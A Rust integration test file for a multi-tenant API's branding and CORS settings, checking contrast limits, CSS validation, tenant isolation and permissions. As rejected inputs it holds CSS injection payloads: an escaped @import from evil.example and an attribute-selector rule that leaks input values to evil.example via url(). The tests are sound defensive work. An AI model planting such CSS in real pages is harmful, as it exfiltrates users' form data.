//! Branding over HTTP: a colour that would make text unreadable is refused with its
//! contrast, an accepted one reaches the public branding and stylesheet of its provider
//! only, and only staff with the branding permission change it.

use crate::common::{ALL, Auth, STAFF_PASSWORD, World};
use axum::http::StatusCode;
use selfcare::domain::identity::Permission;
use serde_json::json;

#[tokio::test]
async fn a_providers_brand_reaches_its_own_sites_only_and_stays_readable() {
    let w = World::new().await;
    let acme = w.tenant("acme").await;
    let bluewave = w.tenant("bluewave").await;
    w.staff(&acme, "boss", ALL).await;
    w.staff(&acme, "clerk", &[Permission::AccountsRead]).await;
    w.staff(&bluewave, "rival", ALL).await;
    let boss = w.token("acme", "boss", STAFF_PASSWORD).await;
    let put = |token: String, tenant: &'static str, body: serde_json::Value| {
        let w = &w;
        async move {
            w.call(
                "PUT",
                "/v1/console/branding",
                tenant,
                Auth::Bearer(&token),
                Some(body),
            )
            .await
        }
    };

    let yellow = put(boss.clone(), "acme", json!({"brand_colour": "#FFCC00"})).await;
    assert_eq!(yellow.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        yellow.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("1.51:1"),
        "{}",
        yellow.text
    );
    // The stylesheet is read by a CSS parser: an escaped or commented @import, or a url()
    // to another origin, is refused with the field and the line.
    for css in [
        "@\\69mport 'https://evil.example/x.css';",
        "@/**/import 'x.css';",
        "input[value^=a] {\n  background: url(https://evil.example/?a);\n}",
    ] {
        let refused = put(boss.clone(), "acme", json!({ "css": css })).await;
        assert_eq!(
            refused.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{css}: {}",
            refused.text
        );
        assert_eq!(
            refused.body["errors"][0]["field"], "/css",
            "{}",
            refused.text
        );
    }
    let refused = put(
        boss.clone(),
        "acme",
        json!({ "css": "input[value^=a] {\n  background: url(https://evil.example/?a);\n}" }),
    )
    .await;
    assert!(
        refused.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .ends_with("(line 2)"),
        "{}",
        refused.text
    );
    let purple = put(
        boss.clone(),
        "acme",
        json!({"brand_colour": "#5B2A86", "css": ".sc-brand-name { letter-spacing: 0.05em; }"}),
    )
    .await;
    assert_eq!(purple.status, StatusCode::OK, "{}", purple.text);

    let public = w
        .call("GET", "/v1/branding", "acme", Auth::None, None)
        .await;
    assert_eq!(public.body["brand_colour"], "#5b2a86");
    assert_eq!(public.body["on_brand_colour"], "#ffffff");
    assert_eq!(public.body["provider"], "acme Telecom");
    let css = w
        .call("GET", "/v1/branding.css", "acme", Auth::None, None)
        .await;
    assert_eq!(css.headers["content-type"], "text/css; charset=utf-8");
    assert!(
        css.text
            .starts_with(":root { --sc-brand: #5b2a86; --sc-on-brand: #ffffff; }")
    );
    assert!(css.text.contains("letter-spacing"));

    // Another provider's look is its own; its staff cannot reach acme's.
    let theirs = w
        .call("GET", "/v1/branding", "bluewave", Auth::None, None)
        .await;
    assert!(theirs.body["brand_colour"].is_null());
    let rival = w.token("bluewave", "rival", STAFF_PASSWORD).await;
    put(
        rival.clone(),
        "bluewave",
        json!({"brand_colour": "#003300"}),
    )
    .await;
    let ours = w
        .call("GET", "/v1/branding", "acme", Auth::None, None)
        .await;
    assert_eq!(ours.body["brand_colour"], "#5b2a86");
    let read = w
        .call(
            "GET",
            "/v1/console/branding",
            "bluewave",
            Auth::Bearer(&rival),
            None,
        )
        .await;
    assert_eq!(read.body["brand_colour"], "#003300");

    // Staff without the permission may not change it.
    let clerk = w.token("acme", "clerk", STAFF_PASSWORD).await;
    let refused = put(clerk, "acme", json!({"brand_colour": "#000000"})).await;
    assert_eq!(refused.status, StatusCode::FORBIDDEN);
    let unknown = w
        .call("GET", "/v1/branding", "nobody", Auth::None, None)
        .await;
    assert_eq!(unknown.status, StatusCode::NOT_FOUND);
}

/// A request as a browser on another site sends it to the provider's own address.
async fn from_origin(
    w: &World,
    method: &str,
    host: &str,
    origin: &str,
    uri: &str,
    headers: &[(&str, &str)],
) -> axum::http::Response<axum::body::Body> {
    let mut request = axum::http::Request::builder()
        .method(method)
        .uri(uri)
        .header("host", host)
        .header("origin", origin);
    for (name, value) in headers {
        request = request.header(*name, *value);
    }
    tower::ServiceExt::oneshot(
        w.app.clone(),
        request.body(axum::body::Body::empty()).unwrap(),
    )
    .await
    .unwrap()
}

fn allowed_origin(response: &axum::http::Response<axum::body::Body>) -> Option<String> {
    response
        .headers()
        .get("access-control-allow-origin")
        .map(|v| v.to_str().unwrap().to_owned())
}

#[tokio::test]
async fn a_providers_own_sites_call_the_api_from_the_browser_and_no_one_elses_do() {
    let w = World::new().await;
    let acme = w.tenant("acme").await;
    let bluewave = w.tenant("bluewave").await;
    w.staff(&acme, "boss", ALL).await;
    w.staff(&bluewave, "rival", ALL).await;
    let boss = w.token("acme", "boss", STAFF_PASSWORD).await;
    let rival = w.token("bluewave", "rival", STAFF_PASSWORD).await;
    let set = |token: String, tenant: &'static str, origins: serde_json::Value| {
        let w = &w;
        async move {
            w.call(
                "PUT",
                "/v1/console/branding",
                tenant,
                Auth::Bearer(&token),
                Some(json!({"api_origins": origins})),
            )
            .await
        }
    };
    // Only https origins, or http on a developer's machine; no paths, no wildcards.
    let refused = set(
        boss.clone(),
        "acme",
        json!([
            "http://shop.acme.example",
            "https://*.acme.example",
            "https://a.example/x"
        ]),
    )
    .await;
    assert_eq!(
        refused.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        refused.text
    );
    let fields: Vec<&str> = refused.body["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    assert_eq!(
        fields,
        ["/api_origins/0", "/api_origins/1", "/api_origins/2"]
    );
    let saved = set(
        boss.clone(),
        "acme",
        json!(["https://Shop.Acme.example/", "http://localhost:5173"]),
    )
    .await;
    assert_eq!(saved.status, StatusCode::OK, "{}", saved.text);
    assert_eq!(
        saved.body["api_origins"],
        json!(["https://shop.acme.example", "http://localhost:5173"])
    );
    let theirs = set(rival, "bluewave", json!(["https://shop.bluewave.example"])).await;
    assert_eq!(theirs.status, StatusCode::OK, "{}", theirs.text);

    // A preflight from Acme's shop to Acme's address: allowed, without credentials.
    let preflight = [
        ("access-control-request-method", "POST"),
        (
            "access-control-request-headers",
            "authorization, content-type",
        ),
    ];
    let ok = from_origin(
        &w,
        "OPTIONS",
        "acme.localhost",
        "https://shop.acme.example",
        "/v1/portal/orders",
        &preflight,
    )
    .await;
    assert_eq!(ok.status(), StatusCode::NO_CONTENT);
    assert_eq!(
        allowed_origin(&ok).as_deref(),
        Some("https://shop.acme.example")
    );
    assert!(
        ok.headers()
            .get("access-control-allow-credentials")
            .is_none()
    );
    assert!(
        ok.headers()["access-control-allow-headers"]
            .to_str()
            .unwrap()
            .contains("authorization")
    );
    // Bluewave's shop, or any other site, at Acme's address: refused.
    for origin in ["https://shop.bluewave.example", "https://evil.example"] {
        let no = from_origin(
            &w,
            "OPTIONS",
            "acme.localhost",
            origin,
            "/v1/portal/orders",
            &preflight,
        )
        .await;
        assert_eq!(no.status(), StatusCode::FORBIDDEN, "{origin}");
        assert_eq!(allowed_origin(&no), None, "{origin}");
    }
    // An address that is no provider's: nothing is allowed.
    let nowhere = from_origin(
        &w,
        "OPTIONS",
        "nobody.localhost",
        "https://shop.acme.example",
        "/v1/health",
        &preflight,
    )
    .await;
    assert_eq!(allowed_origin(&nowhere), None);

    // The call itself: the shop may read the answer; another site's page may not.
    let bearer = format!("Bearer {boss}");
    let read = from_origin(
        &w,
        "GET",
        "acme.localhost",
        "https://shop.acme.example",
        "/v1/console/me",
        &[("authorization", bearer.as_str())],
    )
    .await;
    assert_eq!(read.status(), StatusCode::OK);
    assert_eq!(
        allowed_origin(&read).as_deref(),
        Some("https://shop.acme.example")
    );
    let other = from_origin(
        &w,
        "GET",
        "acme.localhost",
        "https://evil.example",
        "/v1/console/me",
        &[("authorization", bearer.as_str())],
    )
    .await;
    assert_eq!(allowed_origin(&other), None);
    assert!(
        other.headers()["vary"].to_str().unwrap().contains("origin"),
        "the answer varies by origin"
    );
    // The sites themselves (same host) need no CORS.
    let own = from_origin(
        &w,
        "GET",
        "acme.localhost:3000",
        "http://acme.localhost:3000",
        "/v1/console/me",
        &[("authorization", bearer.as_str())],
    )
    .await;
    assert_eq!(own.status(), StatusCode::OK);
    assert_eq!(allowed_origin(&own), None);
}
